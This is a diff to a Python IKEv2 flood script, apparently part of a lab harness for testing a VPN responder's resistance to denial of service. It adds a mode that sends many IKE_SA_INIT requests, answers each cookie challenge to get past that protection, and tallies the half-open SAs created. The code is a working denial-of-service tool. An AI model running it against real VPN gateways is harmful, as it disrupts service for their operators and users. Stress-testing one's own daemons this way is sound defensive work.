@@ -4,6 +4,15 @@ source addresses, and with hostile bytes (truncated, bad lengths, junk),
 over a raw socket (root, in the attacker's network namespace).
 
     ike_flood.py DST_IP PEER_IP SRC_PREFIX COUNT
+    ike_flood.py --cookies DST_IP COUNT [INTERVAL_S]
+
+With --cookies, the attacker is one real address (its own, over a plain
+UDP socket): it sends COUNT IKE_SA_INIT requests, INTERVAL_S apart
+(default 0.002), and answers every COOKIE request (RFC 7296 §2.6) with the
+same request, the cookie first, as a real initiator does; it never goes on
+to IKE_AUTH. It prints "sent N" every 100 requests and a summary: how
+many got an IKE_SA_INIT response (a half-open SA at the responder), a
+COOKIE, or nothing.
 
 Each request is valid as far as the responder can tell before it keeps
 state: a new SPIi, one IKE proposal AES-GCM-16-128 / PRF-HMAC-SHA2-256 /
@@ -48,6 +57,72 @@ def ike_sa_init(spi_i):
     return header + body
 
 
+def with_cookie(msg, cookie):
+    """The same IKE_SA_INIT request with N(COOKIE) as its first payload."""
+    notify = struct.pack("!BBH", 0, 0, 16390) + cookie  # protocol 0, SPI size 0, COOKIE
+    body = payload(msg[16], notify) + msg[28:]
+    return msg[:16] + bytes([41]) + msg[17:24] + struct.pack("!I", 28 + len(body)) + body
+
+
+def answer_kind(data):
+    """(SPIi, kind) of an IKE_SA_INIT response: kind is ("cookie", COOKIE),
+    "state" (SA, KE, Nr: the responder keeps a half-open SA) or "other"."""
+    if len(data) < 28 or data[18] != 34 or not data[19] & 0x20:
+        return None, "other"
+    spi_i = struct.unpack("!Q", data[:8])[0]
+    if data[16] == 33:
+        return spi_i, "state"
+    # HDR, N(COOKIE): the notify's length at 30, its type at 34, data from 36.
+    if data[16] == 41 and len(data) >= 36 and struct.unpack("!H", data[34:36])[0] == 16390:
+        length = struct.unpack("!H", data[30:32])[0]
+        return spi_i, ("cookie", data[36:28 + length])
+    return spi_i, "other"
+
+
+def cookie_flood(dst, count, interval):
+    """COUNT requests from this host's own address, every COOKIE answered."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((dst, 500))
+    s.setblocking(False)
+    pending, seen = {}, {"state": 0, "cookie": 0, "other": 0}
+    answered = 0
+
+    def drain():
+        nonlocal answered
+        while True:
+            try:
+                data = s.recv(65535)
+            except BlockingIOError:
+                return
+            spi_i, kind = answer_kind(data)
+            if isinstance(kind, tuple):
+                seen["cookie"] += 1
+                msg = pending.get(spi_i)
+                if msg is not None and msg[16] != 41:  # answer each request's first cookie
+                    pending[spi_i] = with_cookie(msg, kind[1])
+                    s.send(pending[spi_i])
+                    answered += 1
+            else:
+                seen[kind] += 1
+
+    for i in range(count):
+        spi_i = random.getrandbits(64) | 1
+        pending[spi_i] = ike_sa_init(spi_i)
+        s.send(pending[spi_i])
+        drain()
+        time.sleep(interval)
+        drain()
+        if (i + 1) % 100 == 0:
+            print("sent %d" % (i + 1), flush=True)
+    end = time.time() + 1.0
+    while time.time() < end:
+        drain()
+        time.sleep(0.01)
+    print("flood done: sent %d IKE_SA_INIT from %s, %d again with the cookie; answers: %d with state, %d COOKIE, %d other, %d none"
+          % (count, s.getsockname()[0], answered, seen["state"], seen["cookie"], seen["other"],
+             count + answered - seen["state"] - seen["cookie"] - seen["other"]), flush=True)
+
+
 def ipv4_udp(src, dst, sport, dport, data):
     udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data  # no checksum (IPv4)
     total = 20 + len(udp)
@@ -63,6 +138,10 @@ def ipv4_udp(src, dst, sport, dport, data):
 
 
 def main():
+    if sys.argv[1] == "--cookies":
+        interval = float(sys.argv[4]) if len(sys.argv) > 4 else 0.002
+        cookie_flood(sys.argv[2], int(sys.argv[3]), interval)
+        return
     dst, peer, prefix, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sent = hostile = 0
